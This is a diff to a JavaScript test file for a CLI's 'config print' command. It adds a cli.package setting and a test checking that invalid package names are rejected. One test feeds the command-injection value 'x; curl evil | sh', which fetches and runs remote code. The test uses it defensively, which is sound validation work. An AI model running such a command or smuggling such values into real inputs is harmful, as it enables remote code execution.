@@ -13,7 +13,8 @@ describe('platform config print', () => {
       }),
     });
     const repo = await testdir({
-      '.platformrc.yaml': 'catalogs: [builtin, ./templates]\ntelemetry:\n  enabled: false\n',
+      '.platformrc.yaml':
+        'catalogs: [builtin, ./templates]\ntelemetry:\n  enabled: false\ncli:\n  package: "@acme/platform-cli"\n',
       'templates/.keep': '',
     });
     const text = await runBin('platform', ['config', 'print'], { cwd: repo, env });
@@ -31,6 +32,9 @@ describe('platform config print', () => {
       `template.outdated: error  # ${path.join(env.XDG_CONFIG_HOME!, 'platform/config.json')}`,
     );
     expect(text.stdout).toContain('enabled: false');
+    expect(text.stdout).toContain(
+      `package: @acme/platform-cli  # ${path.join(repo, '.platformrc.yaml')}`,
+    );
     const json = JSON.parse(
       (await runBin('platform', ['config', 'print', '--json'], { cwd: repo, env })).stdout,
     );
@@ -41,6 +45,7 @@ describe('platform config print', () => {
         enabled: false,
         endpoint: 'https://***:***@events.example/v1?token=***&region=eu',
       },
+      cli: { package: '@acme/platform-cli' },
     });
     expect(json.origins['telemetry.enabled']).toBe(path.join(repo, '.platformrc.yaml'));
   });
@@ -51,5 +56,12 @@ describe('platform config print', () => {
     expect(run.exitCode).toBe(2);
     expect(run.stderr).toContain(`Invalid configuration in ${path.join(repo, '.platformrc.json')}`);
     expect(run.stderr).toContain('telemetry.endpoint: must be an http(s) URL');
+  });
+
+  it('refuses a cli.package that is not an npm package name, since CI runs it in a shell', async () => {
+    const repo = await testdir({ '.platformrc.json': '{"cli":{"package":"x; curl evil | sh"}}' });
+    const run = await runBin('platform', ['config', 'print'], { cwd: repo });
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toContain('cli.package: must be an npm package name');
   });
 });
